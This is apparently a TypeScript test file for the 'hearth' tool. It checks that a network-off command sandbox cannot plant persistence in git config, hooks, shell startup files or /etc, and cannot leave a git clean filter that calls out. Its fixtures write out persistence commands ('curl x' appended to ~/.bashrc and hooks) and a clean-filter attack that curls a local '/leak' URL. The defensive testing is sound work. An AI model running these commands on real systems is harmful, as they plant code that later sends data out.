/**
 * What a network-off command (hearth fix --yes, tools/command-network.ts) could leave for a
 * program outside its namespaces to run later, with the network: the repository's git config
 * and hooks, the home's startup files and ~/.gitconfig. Real git, a real HTTP server on
 * 127.0.0.1 outside the command's network namespace, a temp folder as HOME; the patch step's
 * own git (agent/fix-line-ends.ts, which runs the repository's clean filters) after the command.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, it } from "node:test";
import { repositoryLineEnds } from "../../../src/agent/fix-line-ends.ts";
import { probeNetworkOff } from "../../../src/tools/command-network.ts";
import { runShell } from "../../../src/tools/run-command.ts";
import { tempDir, writeFiles } from "./helpers/setup.ts";

const probe = process.platform === "linux" ? await probeNetworkOff() : undefined;
const skip = probe?.ok ? false : `no network namespace here: ${probe && !probe.ok ? probe.why : process.platform}`;
const never = new AbortController().signal;
const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd, encoding: "utf8" });

/** A checkout with one commit, and a temp folder as HOME (a .bashrc, a .gitconfig, a cache folder) for this test's commands. */
function setUp(t: { after: (fn: () => void) => void }): { root: string; home: string } {
  const root = tempDir("hearth-persist-ws-");
  writeFiles(root, { "app.py": "print(1)\n" });
  git(root, "init", "-q");
  git(root, "add", ".");
  git(root, "commit", "-q", "-m", "start");
  const home = tempDir("hearth-persist-home-");
  writeFiles(home, { ".bashrc": "# mine\n", ".gitconfig": "[core]\n", ".cache/pip/keep": "", ".config/git/ignore": "", ".config/app/settings": "" });
  const before = process.env.HOME;
  process.env.HOME = home;
  t.after(() => (process.env.HOME = before));
  return { root, home };
}

describe("what a network-off command could leave for programs outside to run later", { skip }, () => {
  const networkOff = probe?.ok ? probe.off : undefined;

  it("git's config and hooks and the home's startup files are read-only for it; its caches, its files and its own git commit are not", async (t) => {
    const { root, home } = setUp(t);
    const attempts = ["echo '[alias] st = !curl x' >> .git/config", "echo 'curl x' > .git/hooks/pre-commit", "echo '* filter=x' > .git/info/attributes", "echo 'curl x' >> ~/.bashrc", "echo 'curl x' > ~/.bash_profile", "git config --global core.pager 'curl x'", "mkdir -p ~/.config/autostart", "echo x > ~/.ssh_new"];
    // As root, /etc too (cron.d, ld.so.preload, profile.d).
    // An empty file of its own, taken away after should the test fail.
    const etc = `/etc/hearth-persistence-test-${process.pid}`;
    t.after(() => rmSync(etc, { force: true }));
    if (process.getuid?.() === 0) attempts.push(`touch ${etc}`);
    for (const attempt of attempts) {
      const ran = await runShell(attempt, root, 60_000, never, undefined, { networkOff });
      assert.notEqual(ran.exitCode, 0, `${attempt}: ${ran.output}`);
      assert.match(ran.output, /Read-only file system/, attempt);
    }
    assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "# mine\n");
    assert.equal(readFileSync(join(home, ".gitconfig"), "utf8"), "[core]\n");
    assert.doesNotMatch(readFileSync(join(root, ".git/config"), "utf8"), /alias/);
    // What tests and the fix itself write: the home's caches and other settings folders, the checkout, a commit there.
    const work = await runShell(`echo c > ~/.cache/pip/new && echo s > ~/.config/app/more && echo fixed > app.py && git -c user.name=t -c user.email=t@example.com commit -qam fix && git log --oneline | wc -l`, root, 60_000, never, undefined, { networkOff });
    assert.equal(work.exitCode, 0, work.output);
    assert.match(work.output, /^2$/m);
    assert.equal(readFileSync(join(home, ".cache/pip/new"), "utf8"), "c\n");
    // Outside, the same files stay the user's to write.
    const outside = await runShell("echo '# more' >> ~/.bashrc", root, 60_000, never);
    assert.equal(outside.exitCode, 0, outside.output);
  });

  it("a home without ~/.cache (a fresh container's) gets one before its top is read-only: go's build cache, pip's and the XDG cache of every tool go there", async (t) => {
    const { root, home } = setUp(t);
    rmSync(join(home, ".cache"), { recursive: true, force: true });
    const ran = await runShell("mkdir -p ~/.cache/go-build && echo built > ~/.cache/go-build/x && cat ~/.cache/go-build/x", root, 60_000, never, undefined, { networkOff });
    assert.equal(ran.exitCode, 0, ran.output);
    assert.match(ran.output, /^built$/m);
  });

  it("a clean filter a command configures does not run when hearth fix's patch step asks the repository (0 requests to the server outside)", async (t) => {
    const { root } = setUp(t);
    let hits = 0;
    const server = createServer((_req, res) => {
      hits++;
      res.end("ok");
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    t.after(() => server.close());
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/leak`;
    // The reviewer's attack: a filter in the repository's config (and in ~/.gitconfig), .gitattributes naming it, a file with CRLF.
    const attack = `git config filter.x.clean 'curl -s ${url} >/dev/null; cat'; git config --global filter.x.clean 'curl -s ${url} >/dev/null; cat'; echo '* filter=x' > .gitattributes; printf 'a\\r\\nb\\r\\n' > app.py`;
    const ran = await runShell(attack, root, 60_000, never, undefined, { networkOff });
    await repositoryLineEnds(root)([{ path: "app.py", bytes: readFileSync(join(root, "app.py")) }]);
    assert.equal(hits, 0, "the filter ran outside the namespace, with the network");
    assert.match(ran.output, /could not lock config file|Read-only file system|Permission denied/, ran.output);
    // Outside, git config writes as before (the user's own).
    assert.doesNotThrow(() => git(root, "config", "hearth.test", "1"));
  });
});
